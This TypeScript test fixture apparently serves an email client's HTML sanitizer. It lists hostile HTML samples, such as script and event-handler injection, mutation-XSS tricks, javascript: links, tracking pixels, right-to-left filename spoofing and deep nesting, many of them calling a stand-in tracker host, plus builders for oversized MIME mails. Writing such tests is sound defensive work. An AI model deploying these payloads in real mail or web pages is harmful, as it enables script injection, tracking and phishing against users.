/** Where every picture, frame and form of these mails points. Nobody may ever be asked there. */
export const tracker = 'https://tracker.evil.example'

/** HTML that wants to run, to load or to send something. Made up after known attacks; none came from a real mailbox. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: `<p>Hello</p><script>window.top.hit = 1; fetch('${tracker}/script')</script>`,
  'handler of a picture': `<img src="x" onerror="window.top.hit = 1; fetch('${tracker}/onerror')">`,
  'svg that runs': `<svg onload="window.top.hit = 1"><script>window.top.hit = 1</script><image href="${tracker}/svg"/></svg>`,
  frames: `<iframe src="${tracker}/frame" srcdoc="<script>window.top.hit = 1</script>"></iframe><frameset><frame src="${tracker}/f"></frameset>`,
  objects: `<object data="${tracker}/object"></object><embed src="${tracker}/embed"><applet code="x"></applet>`,
  'form that posts': `<form action="${tracker}/form"><input name="password" autofocus onfocus="window.top.hit = 1"><button>Sign in</button></form>`,
  'style that imports': `<style>@import url(${tracker}/import); body { background: url(${tracker}/body) }</style><p>Hi</p>`,
  'style of an element': `<p style="background: url('${tracker}/inline'); position: fixed; inset: 0">Hi</p>`,
  'page that moves on': `<meta http-equiv="refresh" content="0; url=${tracker}/refresh"><p>Hi</p>`,
  'base of links': `<base href="${tracker}/"><a href="login">Sign in</a>`,
  'linked styles': `<link rel="stylesheet" href="${tracker}/css"><link rel="dns-prefetch" href="${tracker}"><p>Hi</p>`,
  'tracking pixel': `<p>Hi</p><img src="${tracker}/pixel.gif?who=ana" width="1" height="1">`,
  'media and sources': `<picture><source srcset="${tracker}/s 2x"><img srcset="${tracker}/t 2x"></picture><video poster="${tracker}/p" src="${tracker}/v" autoplay></video><audio src="${tracker}/a" autoplay></audio>`,
  'links that run': `<a href="java&#x0A;script:window.top.hit=1">a</a><a href=" javascript:window.top.hit=1">b</a><a href="data:text/html,<script>window.top.hit=1</script>">c</a><a href="vbscript:x">d</a>`,
  'backgrounds of tables': `<body background="${tracker}/body"><table background="${tracker}/table"><tr><td background="${tracker}/td">Hi</td></tr></table></body>`,
  'mutated by a parser': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.top.hit=1&gt;">`,
  'hidden in noscript': `<noscript><p title="</noscript><img src=x onerror=window.top.hit=1>"></noscript><template><script>window.top.hit = 1</script></template><p>Hi</p>`,
  'words that read backwards': `<p>invoice&#8238;fdp.exe</p><a href="https://bank.example&#8238;">bank</a>\u202egnp.exe\u2066`,
  'nested without end': `${'<div>'.repeat(5_000)}Hi${'</div>'.repeat(5_000)}`,
}

interface Headers {
  from?: string
  to?: string
  subject?: string
  messageId: string
  at?: Date
  references?: string
  more?: string[]
}

/** A mail as a server stores it. */
export const rawMail = ({ more = [], ...headers }: Headers, body: string, type = 'text/html; charset=utf-8'): string =>
  [
    `From: ${headers.from ?? 'Bo Berg <bo@acme.example>'}`,
    `To: ${headers.to ?? 'Ana Lima <ana@halyard.example>'}`,
    `Subject: ${headers.subject ?? 'A subject'}`,
    `Date: ${(headers.at ?? new Date('2026-09-01T09:00:00Z')).toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${headers.messageId}>`,
    ...(headers.references ? [`In-Reply-To: <${headers.references}>`, `References: <${headers.references}>`] : []),
    ...more,
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    'Content-Transfer-Encoding: 8bit',
    '',
    body,
    '',
  ].join('\r\n')

/** Parts in parts, deeper than anybody writes. */
export function nestedMail(depth: number, messageId: string): string {
  let body = 'Content-Type: text/plain\r\n\r\nAt the bottom.\r\n'
  for (let level = depth; level > 0; level -= 1) {
    body = `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n${body}\r\n--b${level}--\r\n`
  }
  const [type = '', ...rest] = body.split('\r\n\r\n')
  return rawMail({ messageId }, rest.join('\r\n\r\n'), type.replace('Content-Type: ', ''))
}

/** More parts than anybody attaches. */
export function mailOfManyParts(parts: number, messageId: string): string {
  const part = (index: number): string =>
    `--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="f${index}.html"\r\n\r\n<script>1</script>\r\n`
  const body = `--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n${Array.from({ length: parts }, (_, i) => part(i)).join('')}--b--\r\n`
  return rawMail({ messageId }, body, 'multipart/mixed; boundary="b"')
}
